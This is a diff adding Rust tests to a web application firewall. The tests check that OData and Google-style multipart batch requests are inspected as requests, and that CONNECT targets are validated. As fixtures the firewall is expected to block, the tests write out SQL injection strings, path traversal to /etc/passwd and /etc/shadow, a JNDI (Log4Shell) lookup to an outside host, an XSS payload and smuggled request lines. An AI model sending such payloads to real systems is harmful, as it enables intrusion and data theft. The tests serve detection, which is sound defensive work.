@@ -2000,3 +2000,128 @@ fn thin_kinds_of_recall9_are_blocked() {
         assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
     }
 }
+
+/// Batch APIs (OData `$batch`, Google's and Microsoft Graph's JSON-less batches) send
+/// requests whole, each as a `multipart/mixed` part of type `application/http` (RFC 9112
+/// 10.1), writes grouped in a nested `multipart/mixed` change set, each part with
+/// `Content-Transfer-Encoding: binary` as the OData spec asks. The application runs each as a
+/// request: it is inspected as one (target path and query, header fields, content), so
+/// ordinary batches pass and an attack inside any of its pieces is blocked; a request line or
+/// header lines anywhere else (a `text/plain` part, a form field) still count as smuggled,
+/// and encodings that hide the content (`base64`), or any transfer encoding in form-data
+/// (RFC 7578 4.7, CRS 922120), still count.
+#[test]
+fn batch_requests_are_inspected_as_requests() {
+    let mixed = "multipart/mixed; boundary=batch_7f3a";
+    let part = |message: &str| {
+        format!(
+            "--batch_7f3a\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n{message}\r\n"
+        )
+    };
+    let batch = |messages: &[&str]| {
+        let mut b: String = messages.iter().map(|m| part(m)).collect();
+        b.push_str("--batch_7f3a--\r\n");
+        b
+    };
+    let changeset = |messages: &[&str]| {
+        let mut b = String::from(
+            "--batch_7f3a\r\nContent-Type: multipart/mixed; boundary=changeset_19\r\n\r\n",
+        );
+        for (i, m) in messages.iter().enumerate() {
+            b.push_str(&format!("--changeset_19\r\nContent-Type: application/http\r\ncontent-transfer-encoding: binary\r\nContent-ID: {}\r\n\r\n{m}\r\n", i + 1));
+        }
+        b.push_str("--changeset_19--\r\n--batch_7f3a--\r\n");
+        b
+    };
+    for body in [
+        batch(&[
+            "GET Products?$filter=Price%20lt%2020%20and%20Category%20eq%20'Tea'&$orderby=Name&$top=10 HTTP/1.1\r\nAccept: application/json;odata.metadata=minimal\r\n",
+            "GET Customers('ALFKI')/Orders?$expand=Order_Details($select=Quantity) HTTP/1.1\r\nAccept: application/json\r\n",
+            "GET https://services.example/odata/People('russellwhyte')/Friends HTTP/1.1\r\nOData-Version: 4.0\r\n",
+        ]),
+        changeset(&[
+            "POST Customers HTTP/1.1\r\nContent-Type: application/json\r\nPrefer: return=minimal\r\n\r\n{\"CustomerID\":\"OBRIE\",\"CompanyName\":\"O'Brien & Sons; est. 1921\",\"Notes\":\"Select the blue crates, then drop them at door #2\"}",
+            "PATCH Orders(10248) HTTP/1.1\r\nContent-Type: application/json\r\nIf-Match: W/\"datetime'2024-05-01T10%3A00%3A00'\"\r\n\r\n{\"ShipVia\":3}",
+            "DELETE Order_Details(OrderID=10248,ProductID=11) HTTP/1.1\r\n\r\n",
+        ]),
+        // Google's batch format: absolute paths, `Content-ID: <item1>`, an empty line closing
+        // a request without content.
+        "--batch_7f3a\r\nContent-Type: application/http\r\nContent-ID: <item1>\r\n\r\nGET /drive/v3/files?fields=files(id,name)&q=name%20contains%20'report' HTTP/1.1\r\nAuthorization: Bearer ya29.a0AfH6SMB\r\n\r\n--batch_7f3a--\r\n".to_string(),
+    ] {
+        let a = body_request(mixed, &body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body:?} -> {a:?}");
+    }
+    for body in [
+        batch(&["GET People?$filter=UserName%20eq%20'x'%20or%201=1-- HTTP/1.1\r\n"]),
+        batch(&["GET Files('..%2f..%2f..%2fetc%2fpasswd') HTTP/1.1\r\n"]),
+        batch(&["GET /files/../../../../etc/shadow HTTP/1.1\r\n"]),
+        batch(&["GET People HTTP/1.1\r\nX-Tenant: ${jndi:ldap://x.example/a}\r\n"]),
+        batch(&["GET People HTTP/1.1\r\nX-Sort: name; DROP TABLE people--\r\n"]),
+        changeset(&[
+            "POST Comments HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Text\":\"<img src=x onerror=alert(document.domain)>\"}",
+        ]),
+        changeset(&[
+            "PATCH People('a') HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Name\":\"1 UNION SELECT password FROM users--\"}",
+        ]),
+        // A request line in a part that is not declared a request is smuggled, as before.
+        "--batch_7f3a\r\nContent-Type: text/plain\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n--batch_7f3a--\r\n".to_string(),
+        // An encoding that hides the content from the filter.
+        "--batch_7f3a\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: base64\r\n\r\nR0VUIC9hZG1pbiBIVFRQLzEuMQ0KDQo=\r\n--batch_7f3a--\r\n".to_string(),
+    ] {
+        let a = body_request(mixed, &body);
+        assert_eq!(a.verdict, Verdict::Block, "{body:?} -> {a:?}");
+    }
+    // In form-data any transfer encoding counts (RFC 7578 4.7, CRS 922120), and a request
+    // smuggled in a field still does.
+    let form = "multipart/form-data; boundary=f";
+    for body in [
+        "--f\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: binary\r\n\r\nhello\r\n--f--\r\n",
+        "--f\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: application/http\r\n\r\nGET /x?id=1%20union%20select%20password%20from%20users HTTP/1.1\r\n\r\n\r\n--f--\r\n",
+        "--f\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n--f--\r\n",
+    ] {
+        let a = body_request(form, body);
+        assert_eq!(a.verdict, Verdict::Block, "{body:?} -> {a:?}");
+    }
+}
+
+/// `CONNECT host:port` is a well-formed request line (authority-form, RFC 9112 3.2.3): a
+/// deployment that allows the method (a forward proxy) passes it; the default refuses the
+/// method, as CRS 911100. Authority-form with another method, or a `CONNECT` target that is
+/// no authority, is a malformed request line either way.
+#[test]
+fn connect_targets_are_authorities() {
+    let mut config = Config::default();
+    config.allowed_methods.push("CONNECT".to_string());
+    let proxy = config.compile().unwrap();
+    let default = Config::default().compile().unwrap();
+    let hs = vec![("host".to_string(), "www.example.org:443".to_string())];
+    let inspect = |engine: &threat_score::Engine, method: &str, target: &str| {
+        engine
+            .inspect(&Request::new(method, target).with_headers(&hs))
+            .verdict
+    };
+    for target in ["www.example.org:443", "10.1.2.3:8443", "[2001:db8::1]:443"] {
+        assert_eq!(
+            inspect(&proxy, "CONNECT", target),
+            Verdict::Allow,
+            "{target}"
+        );
+        assert_eq!(
+            inspect(&default, "CONNECT", target),
+            Verdict::Block,
+            "{target}"
+        );
+    }
+    for (method, target) in [
+        ("CONNECT", "user:pw@www.example.org:443"),
+        ("CONNECT", "www.example.org"),
+        ("CONNECT", "www.example.org:443/admin"),
+        ("GET", "www.example.org:443"),
+    ] {
+        assert_eq!(
+            inspect(&proxy, method, target),
+            Verdict::Block,
+            "{method} {target}"
+        );
+    }
+}
